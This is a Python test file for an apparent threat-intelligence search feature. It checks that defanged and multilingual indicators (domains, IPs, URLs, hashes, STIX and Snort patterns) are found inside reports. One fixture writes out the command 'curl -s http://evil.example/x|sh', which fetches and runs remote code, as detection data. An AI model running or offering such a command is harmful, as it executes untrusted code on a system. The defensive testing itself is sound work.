"""Values inside prose are found as values: whole or defanged, in text of any script."""

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from opsroom.core.search.mentions import mentions
from tests.core.search.matching import finds, terms
from tests.core.search.observables import defanged, defangings, domains, emails, hashes, ipv4, ipv6, urls

_SHA_512 = "0a" * 64
_REPORT = {
    "type": "report",
    "name": "Lanternfish",
    "description": f"""Der Angreifer nutzte hxxps[:]//evil[.]example/gate.php, 198[.]51[.]100[.]3:8080 und
        2001:db8::1 sowie jane[at]mail(dot)example. Netze: 203.0.113.0/24, 192.0.2.1-192.0.2.9 (AS64500).
        Hash {_SHA_512.upper()}; CVE-2021-44228. "c2.quote[.]example", <hxxp://last.example/a,b>, (see
        http://paren.example/x), [text](http://md.example/page). MAC 00-11-22-33-44-55, path C:\\Temp\\drop.exe,
        b\u00fccher[.]example, evil\u2011twin.example. 连接到198.51.100.77的服务器，域名cn.example。
        도메인 ko.example에서""",
}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/gate.php",
        "evil.example",
        "*.evil.example",
        "198.51.100.3",
        "198.51.100.3:8080",
        "198.51.100.0/28",
        "2001:DB8:0::1",
        "2001:db8::/32",
        "jane@mail.example",
        "203.0.113.0/24",
        "203.0.113.9",
        "192.0.2.1",
        "192.0.2.9",
        "192.0.2.8/29",
        "as64500",
        _SHA_512,
        "sha512:" + _SHA_512,
        "cve-2021-44228",
        "*.quote.example",
        "http://last.example/a,b",
        "http://paren.example/x",
        "http://md.example/page",
        "00:11:22:33:44:55",
        "drop.exe",
        "xn--bcher-kva.example",
        "bücher.example",
        "*.evil-twin.example",
        "198.51.100.77/32",
        "*.cn.example",
        "*.ko.example",
    ],
)
def test_a_value_in_a_report_is_found(text: str) -> None:
    assert finds(text, _REPORT)


@given(
    st.one_of(domains, ipv4, ipv6, urls, emails, hashes),
    defangings,
    st.sampled_from(["It calls {} at night.", "({})", "Siehe {}, usw.", "to c2={}", "из {} в", "{}\n{}"]),
)
def test_whatever_is_written_in_a_sentence_is_found(whole: str, way: str, sentence: str) -> None:
    assume(":" not in whole or "." in whole or len(whole) > len("::ffff:0"))
    assert finds(whole, {"type": "report", "description": sentence.replace("{}", defanged(whole, way))})


@pytest.mark.parametrize(
    "text",
    [
        "e.g. this, i.e. that; version 10.0.19041.1 of v1.2.3.4",
        "std::vector at 12:30:45, a::b and ::",
        "T1059.001 in 2021, section 3.4.5",
        "as 64500 hosts were seen, basic5",
        "wait...what? no/yes a@b",
        "d41d8cd98f00b204e9800998ecf842",
    ],
)
def test_what_is_no_value_is_none(text: str) -> None:
    assert [one.value for one in mentions(text)] == []


def test_what_stands_in_a_url_is_not_looked_for_again() -> None:
    [found] = mentions("http://a.example/b.example?to=c.example")
    assert (found.value, found.host) == ("http://a.example/b.example?to=c.example", "a.example")


def test_a_value_weighs_more_than_its_mention() -> None:
    assert terms(type="domain-name", value="evil.example")["o:evil.example"] > 1
    assert terms(type="report", description="evil[.]example")["o:evil.example"] == 1


@pytest.mark.parametrize(
    ("members", "text"),
    [
        ({"type": "process", "command_line": "curl -s http://evil.example/x|sh"}, "http://evil.example/x"),
        ({"type": "x-foo", "x_misp_value": "evil.example|198.51.100.3"}, "198.51.100.0/24"),
        (
            {"type": "indicator", "pattern_type": "snort", "pattern": 'content:"evil.example";'},
            "*.evil.example",
        ),
        ({"type": "indicator", "pattern": "[domain-name:value LIKE '%.evil.example']"}, "*.evil.example"),
        (
            {"type": "indicator", "pattern": "[url:value MATCHES '^https?://bad\\\\.example/.*']"},
            "*.bad.example",
        ),
        ({"type": "indicator", "pattern": "[process:command_line = 'x 198.51.100.3']"}, "198.51.100.0/24"),
    ],
)
def test_values_inside_of_other_values_are_found(members: dict[str, object], text: str) -> None:
    assert finds(text, members)


def test_a_pattern_that_excludes_a_value_does_not_mention_it() -> None:
    pattern = "[url:value NOT LIKE 'http://good.example/%' AND domain-name:value != 'good.example']"
    assert "o:good.example" not in terms(type="indicator", pattern=pattern)
